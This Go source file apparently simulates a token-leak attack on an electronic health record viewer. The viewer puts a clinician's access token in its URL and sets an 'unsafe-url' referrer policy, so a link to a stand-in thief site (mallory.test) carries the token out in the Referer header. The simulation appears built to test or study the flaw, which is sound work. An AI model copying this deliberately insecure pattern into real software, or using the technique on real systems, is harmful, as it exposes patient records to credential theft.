package sim

import (
	"context"
	"html"
	"net/http"
	"net/url"
)

const viewerURL = "https://viewer.thiefbox.test/document"

// openViewer has the doctor look at a document in the viewer that the EHR was sold with years ago. The EHR
// puts her access token into its address; the page has a link to a site of the thief's, which she follows,
// and it asks browsers to say where they come from.
func openViewer(w *World, ctx context.Context) {
	rows, err := w.sessionRows()
	if err != nil {
		w.report(ctx, "a clinician opens a document", err)
		return
	}
	w.Net.Serve("viewer.thiefbox.test", "ehr", http.HandlerFunc(serveViewer))
	w.Net.Serve("mallory.test", thief, http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	w.step(ctx, w.doctor.id, "opens a document in the EHR's old viewer, and follows a link in it")
	address := viewerURL + "?" + url.Values{"access_token": {rows[0].AccessToken}, "token_type": {rows[0].TokenType}}.Encode()
	page, err := w.doctor.browser.Open(ctx, address)
	if err == nil {
		_, err = w.doctor.browser.Follow(ctx, page, malloryURL+"/guideline", "")
	}
	w.report(ctx, "a clinician opens a document", err)
}

func serveViewer(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.Header().Set("Referrer-Policy", "unsafe-url")
	_, _ = w.Write([]byte(`<!doctype html><title>Document</title><p><a href="` + html.EscapeString(malloryURL) + `/guideline">Guideline</a></p>`))
}
